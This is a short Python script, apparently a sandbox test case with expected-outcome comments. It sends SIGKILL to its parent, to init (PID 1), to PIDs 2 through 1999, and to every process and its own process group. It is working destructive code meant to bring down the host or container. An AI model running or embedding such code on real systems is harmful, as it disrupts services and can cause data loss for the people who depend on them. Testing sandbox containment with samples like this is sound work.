# Kills all that it may, its parents first.
# loses: double
# remark: Cell double
# cell: double
import os, signal
for pid in [os.getppid(), 1, *range(2, 2000), -1, 0]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
